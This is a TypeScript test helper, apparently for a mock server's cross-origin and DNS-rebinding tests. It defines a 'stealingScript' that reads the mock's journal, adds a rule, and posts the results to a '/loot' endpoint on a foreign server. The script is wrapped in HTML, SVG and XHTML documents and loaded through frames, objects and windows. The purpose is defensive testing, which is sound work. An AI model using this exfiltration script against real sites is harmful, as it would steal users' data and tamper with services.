/** Pages of other origins, and the results of their scripts. */
import { createServer, type RequestListener } from 'node:http';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, onTestFinished } from 'vitest';
import { freePort } from '../../free-port.ts';
import { type Browser, startBrowser } from '../console/browser.ts';

/** Resolved to this machine by the browser of these tests. */
export const REBOUND_HOST = 'evil.test';

/** One browser for the tests of a file. */
export function useBrowser(): Browser['open'] {
  let browser: Browser | undefined;
  beforeAll(async () => {
    browser = await startBrowser([REBOUND_HOST]);
  });
  afterAll(() => browser?.close());
  return async (url) => {
    if (browser === undefined) throw new Error('browser: expected to be started, got a call before');
    return browser.open(url);
  };
}

export interface ForeignSite {
  /** The URL of an empty page, without a trailing slash. */
  readonly url: string;
  readonly port: number;
  /** What scripts have reported so far. */
  readonly stolen: readonly string[];
  readonly close: () => Promise<void>;
}

/** A server on another port: its pages are of another origin than the mock. */
export async function startForeignSite(): Promise<ForeignSite> {
  const stolen: string[] = [];
  const { port, close } = await listening((request, response) => {
    let body = '';
    request.on('data', (chunk) => {
      body += chunk;
    });
    request.on('end', () => {
      if (request.url === '/loot') stolen.push(body);
      response.writeHead(200, { 'Content-Type': 'text/html', 'Access-Control-Allow-Origin': '*' });
      response.end('<!doctype html><title>foreign</title><body></body>');
    });
  });
  return { url: `http://localhost:${port}`, port, stolen, close };
}

async function listening(listener: RequestListener): Promise<Pick<ForeignSite, 'port' | 'close'>> {
  const server = createServer(listener);
  // None that others are given while it is closed: a mock takes over the port in some tests.
  const port = await freePort();
  await new Promise<void>((resolve) => server.listen(port, '127.0.0.1', resolve));
  const close = async () => {
    server.closeAllConnections();
    await new Promise((resolve) => server.close(resolve));
  };
  onTestFinished(close);
  return { port, close };
}

/**
 * Reads the journal and adds a rule on its own origin, and reports the results: all before the page has
 * loaded, so that tests need not wait for something that must not happen.
 */
export function stealingScript({ url }: ForeignSite): string {
  return `
    const call = (method, path, body) => {
      const request = new XMLHttpRequest();
      try {
        request.open(method, path, false);
        if (body !== undefined) request.setRequestHeader('Content-Type', 'application/json');
        request.send(body);
        return request.status + ' ' + request.responseText.slice(0, 300);
      } catch (error) { return String(error); }
    };
    const read = call('GET', '/__store/journal');
    const rule = call('POST', '/__store/rules', '{"then":{"status":418}}');
    const home = new XMLHttpRequest();
    home.open('POST', '${url}/loot', false);
    home.send(location.protocol + ' ' + read + ' ' + rule);
  `;
}

/** The same script as a document of each type that browsers run scripts in. */
export const documents: Readonly<Record<string, (script: string) => string>> = {
  'text/html': (script) => `<!doctype html><body><script>${script}</script></body>`,
  'image/svg+xml': (script) => `<svg xmlns="http://www.w3.org/2000/svg"><script>${inXml(script)}</script></svg>`,
  'application/xhtml+xml': xhtml,
  'application/xml': xhtml,
  'text/xml': xhtml,
};

function xhtml(script: string): string {
  return `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head><body><script>${inXml(script)}</script></body></html>`;
}

function inXml(script: string): string {
  return script.replaceAll('&', '&amp;').replaceAll('<', '&lt;');
}

/** From a page: `ok`, the status, or the name of the error. */
export function putFrom(page: Page, url: string, type: string, body: string): Promise<string> {
  const put = `fetch(${JSON.stringify(url)}, { method: 'PUT', headers: { 'Content-Type': ${JSON.stringify(type)} }, body: ${JSON.stringify(body)} })`;
  return page.evaluate<string>(`${put}.then(({ status }) => String(status), ({ name }) => name)`);
}

/** Ways in which a page can show a document of another origin; each ends when it has loaded or failed. */
export const waysToShow: Readonly<Record<string, (page: Page, url: string) => Promise<unknown>>> = {
  'a link': (page, url) => Promise.all([page.waitForURL(url), page.evaluate(`location.href = ${JSON.stringify(url)}`)]),
  'a new window': async (page, url) => {
    const [opened] = await Promise.all([
      page.waitForEvent('popup'),
      page.evaluate(`void window.open(${JSON.stringify(url)})`),
    ]);
    await opened.waitForLoadState('load');
    await opened.close();
  },
  'a frame': (page, url) => embed(page, `<iframe src="${url}"></iframe>`),
  'an object': (page, url) => embed(page, `<object data="${url}"></object>`),
  'an embed': (page, url) => embed(page, `<embed src="${url}">`),
};

function embed(page: Page, markup: string): Promise<unknown> {
  return page.evaluate(`new Promise((resolve) => {
    document.body.innerHTML = ${JSON.stringify(markup)};
    const [element] = document.body.children;
    element.addEventListener('load', resolve);
    element.addEventListener('error', resolve);
  })`);
}
